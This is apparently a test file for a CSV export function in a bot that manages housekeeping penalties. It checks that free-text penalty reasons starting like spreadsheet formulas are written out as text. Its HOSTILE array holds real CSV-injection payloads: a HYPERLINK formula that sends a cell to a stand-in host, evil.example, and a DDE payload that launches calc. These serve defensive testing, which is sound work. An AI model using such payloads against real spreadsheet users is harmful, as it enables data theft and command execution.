import { Penalty } from '../../src/entities';
import { csvCell, csvDocument, parseCsv } from '../../src/api/csv';
import { describeEachDatabase } from '../support/databases';
import { startBot, TEST_ADMIN_TOKEN, type RunningBot } from '../support/harness';
import { addCase } from '../support/seed';

/**
 * CSV exports are opened by HR and finance in Excel or WPS: a cell that starts like a formula
 * must arrive as text. The penalty reason is free text typed in chat, so it is the one to attack.
 */

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('the one CSV writer', () => {
  it('neutralises text that starts like a formula, quotes what needs quoting, leaves numbers as numbers', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+86 139')).toBe("'+86 139");
    expect(csvCell('-')).toBe("'-");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('=a,"b"')).toBe('"\'=a,""b"""');
    expect(csvCell('服务态度差, 迟到')).toBe('"服务态度差, 迟到"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvDocument(['a', 'b'], [['=x', 1]])).toBe("\ufeffa,b\r\n'=x,1\r\n");
  });
});

describeEachDatabase('CSV exports', ({ db, skipped }) => {
  let bot: RunningBot;
  beforeAll(async () => {
    if (skipped()) return;
    bot = await startBot(db(), { background: false });
  });
  afterAll(async () => bot?.stop());

  it('the penalty CSV carries a reason typed as a formula as text, every cell intact', async () => {
    if (skipped()) return;
    await db().write(async (m) => {
      const { ticket, housekeeper } = await addCase(m);
      for (const reason of HOSTILE) {
        await m.insert(Penalty, { ticketId: ticket.id, housekeeperId: housekeeper.id, amountFen: 20_000, reason, status: 'approved', month: '2026-11', raisedBy: 'csm', acknowledgedBy: 'mgr', approvedBy: 'gm01', createdAt: 1, decidedAt: 2 });
      }
    });
    const response = await fetch(`${bot.url}/api/penalties?month=2026-11&format=csv`, { headers: { authorization: 'Bearer test-admin-token-for-the-bot-under-test' } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toContain('attachment');
    const records = parseCsv((await response.text()).replace(/^\ufeff/, ''));
    const header = records[0];
    const reasonAt = header.indexOf('原因');
    const rows = records.slice(1).filter((r) => r.length > 1);
    expect(rows.map((r) => r[reasonAt])).toEqual(HOSTILE.map((reason) => `'${reason}`));
    // no cell of the file starts like a formula
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.every((r) => r.length === header.length)).toBe(true);
  });
});
